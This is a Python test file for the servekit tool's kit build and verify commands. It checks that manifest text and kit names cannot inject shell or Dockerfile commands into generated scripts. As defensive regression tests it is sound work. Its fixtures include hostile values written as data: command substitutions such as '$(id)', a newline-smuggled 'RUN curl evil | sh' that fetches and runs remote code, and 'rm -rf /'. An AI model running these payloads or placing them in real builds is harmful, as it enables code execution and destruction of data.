"""The generated scripts never carry a value that could run: hostile manifests are refused.

A kit whose ``generated`` check passes ships servekit's own rebuild.sh,
selftest.sh and Dockerfile. Those files quote or comment values taken from
MANIFEST.json, so the manifest's free text is bounded by its schema (plain kit
name, tokens, digests, one-line references) and the Dockerfile replays only what
Docker reads as one instruction. Found by review: ``kit build --name '$(id)'``
used to write ``echo "selftest kit $(id) ..."`` into selftest.sh.
"""

from __future__ import annotations

import json
import re
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings, strategies as st
from tests.helpers.cli import servekit_cli as servekit

from servekit.kit.build import build_kit
from servekit.kit.models import ConfigDelta, KitManifest
from servekit.kit.options import KitBuildOptions
from servekit.kit.render import render_all

from .imagegen import base_layers, source_layers, write_oci
from .kitedit import edit_kit

HOSTILE = [
    "$(touch /tmp/servekit-pwned)",
    "`id`",
    "x\nRUN curl evil | sh",
    "x\necho pwned",
    "a b; rm -rf /",
    "",
]
INSTRUCTIONS = ("FROM ", "ADD ", "RUN ", "ENV ", "LABEL ", "WORKDIR ", "ENTRYPOINT ", "CMD ")


@pytest.fixture(scope="module")
def kit(tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, KitManifest]:
    tmp = tmp_path_factory.mktemp("inject")
    base = write_oci(tmp / "b", base_layers())
    src = write_oci(tmp / "s", source_layers())
    built = build_kit(KitBuildOptions(base=str(base), source=str(src), out=tmp / "k.tar.zst"))
    return built.archive, built.manifest


@pytest.mark.parametrize("name", ["$(id)", "a`id`", "x y", "../up", ".hidden", "-rf"])
def test_build_refuses_a_kit_name_that_is_not_plain(tmp_path: Path, name: str) -> None:
    done = servekit("kit", "build", "--base", "x", "--payload", "p", "--out",
                     str(tmp_path / "k.tar.zst"), "--name", name)  # fmt: skip
    assert done.returncode == 2, done.stderr
    assert "--name" in done.stderr and "Traceback" not in done.stderr


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("name",), "$(touch /tmp/servekit-pwned)"),
        (("generator", "version"), "1\necho pwned"),
        (("base", "reference"), "busybox\nRUN id"),
        (("base", "image_id"), "sha256:$(id)"),
        (("image", "source"), "x\n echo pwned"),
        (("layers", 0, "file"), "layers/$(id).tar"),
        (("layers", 0, "whiteouts"), ["/etc/x\necho pwned"]),
    ],
)
def test_verify_refuses_a_manifest_with_hostile_text(
    tmp_path: Path, kit: tuple[Path, KitManifest], path: tuple[Any, ...], value: Any
) -> None:
    archive, _ = kit

    def poison(root: Path) -> None:
        manifest = root / "MANIFEST.json"
        data = json.loads(manifest.read_text())
        node = data
        for key in path[:-1]:
            node = node[key]
        node[path[-1]] = value
        manifest.write_text(json.dumps(data))

    bad = edit_kit(archive, tmp_path / "bad.tar.zst", poison)
    done = servekit("kit", "verify", str(bad))
    assert done.returncode != 0
    assert "MANIFEST.json is invalid" in done.stdout + done.stderr, done.stdout + done.stderr
    assert "Traceback" not in done.stderr


def test_engine_stamps_are_tokens(kit: tuple[Path, KitManifest]) -> None:
    _, manifest = kit
    data = manifest.model_dump()
    data["code"] = {"repo_rev": "abc1234+0dirty", "commit": "abc1234", "dirty_files": [],
                    "engines": {"vllm\n#": "1"}}  # fmt: skip
    with pytest.raises(ValueError, match="plain token"):
        KitManifest.model_validate(data)


text = st.text(st.characters(codec="utf-8"), max_size=24)


@settings(max_examples=300, deadline=None)
@given(
    env=st.dictionaries(st.one_of(text, st.sampled_from(HOSTILE)), text, max_size=4),
    removed=st.lists(st.one_of(text, st.sampled_from(HOSTILE)), max_size=3),
    workdir=st.one_of(st.none(), text, st.sampled_from(HOSTILE)),
    labels=st.dictionaries(text, text, max_size=3),
)
def test_every_dockerfile_line_is_one_instruction_or_a_comment(
    kit: tuple[Path, KitManifest],
    env: dict[str, str],
    removed: list[str],
    workdir: str | None,
    labels: dict[str, str],
) -> None:
    _, manifest = kit
    delta = ConfigDelta(env=env, env_removed=removed, working_dir=workdir, labels=labels)
    dockerfile = render_all(manifest.model_copy(update={"config_delta": delta}))["Dockerfile"]
    lines = dockerfile.split("\n")
    assert "\r" not in dockerfile  # Docker ends an instruction at \r\n too
    for line in lines:
        assert line == "" or line.startswith("#") or line.startswith(INSTRUCTIONS), repr(line)
    replayed = {m.group(1) for m in re.finditer(r"^ENV ([^=\n]+)=", dockerfile, re.M)}
    assert all(re.fullmatch(r"[A-Za-z_][A-Za-z0-9_]*", key) for key in replayed)
